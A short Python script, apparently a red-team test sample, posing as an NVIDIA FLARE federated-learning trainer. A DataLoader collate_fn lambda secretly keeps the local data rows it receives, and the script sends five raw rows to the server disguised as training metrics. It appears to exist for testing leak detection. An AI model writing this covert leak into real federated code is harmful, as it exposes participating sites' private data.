"""Client API trainer (red team 5: a DataLoader collate_fn lambda that keeps the rows it is handed)."""
import numpy as np
import torch
import nvflare.client as flare

x = torch.tensor(np.load("/data/site/x.npy"))
rows = []
loader = torch.utils.data.DataLoader(x, batch_size=8, collate_fn=lambda b: rows.extend(b) or torch.stack(b))
flare.init()
while flare.is_running():
    model = flare.receive()
    for batch in loader:
        pass
    flare.send(flare.FLModel(params=model.params, metrics={"n": [r.tolist() for r in rows[:5]]}))
